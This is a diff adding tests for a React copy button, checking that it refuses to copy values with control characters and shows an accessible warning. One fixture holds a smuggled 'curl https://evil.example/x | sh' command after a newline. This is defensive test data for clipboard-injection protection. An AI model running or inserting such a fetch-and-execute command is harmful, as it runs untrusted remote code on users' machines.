@@ -114,3 +114,49 @@ describe('CopyButton', () => {
     expect(screen.queryByRole('textbox')).toBeNull()
   })
 })
+
+describe('CopyButton with a value holding control characters', () => {
+  const HOSTILE = 'b0\ncurl https://evil.example/x | sh\n'
+
+  function setupHostile(value = HOSTILE, what?: string) {
+    const user = userEvent.setup()
+    const writeText = vi.fn(() => Promise.resolve())
+    stubClipboard({ writeText })
+    renderUi(<CopyButton value={value} label="build ID b0⟨U+000A⟩curl " what={what} />)
+    return { user, writeText, button: screen.getByRole('button', { name: /^Copy build ID/ }) }
+  }
+
+  it('copies nothing and says which characters, why and what to do instead', async () => {
+    const { user, writeText, button } = setupHostile()
+    await user.click(button)
+    expect(writeText).not.toHaveBeenCalled()
+    expect(screen.queryByText('Copied')).toBeNull()
+    const message =
+      'This id holds control characters (U+000A), so it was not copied: pasted into a terminal, they could run a command you never saw. Export the list (CSV or JSON) to get it as sent.'
+    expect(screen.getByText(message)).toBeVisible()
+    // Announced (inside the live region), and the button's description while it shows.
+    expect(screen.getByText(message).closest('[aria-live="polite"]')).not.toBeNull()
+    expect(button).toHaveAccessibleDescription(message)
+  })
+
+  it('names a few of them, and what the value is', async () => {
+    const { user, button } = setupHostile('a\u202Eb\u0000c\u2028d\u{E0041}e', 'name')
+    await user.click(button)
+    expect(
+      screen.getByText(/^This name holds control characters \(U\+202E, U\+0000, U\+2028, …\)/),
+    ).toBeVisible()
+  })
+
+  it('closes the note on Escape and when the button loses focus', async () => {
+    const { user, button } = setupHostile()
+    await user.click(button)
+    await user.keyboard('{Escape}')
+    expect(screen.queryByText(/was not copied/)).toBeNull()
+    expect(button).toHaveFocus()
+
+    await user.click(button)
+    expect(screen.getByText(/was not copied/)).toBeVisible()
+    await user.click(document.body)
+    expect(screen.queryByText(/was not copied/)).toBeNull()
+  })
+})
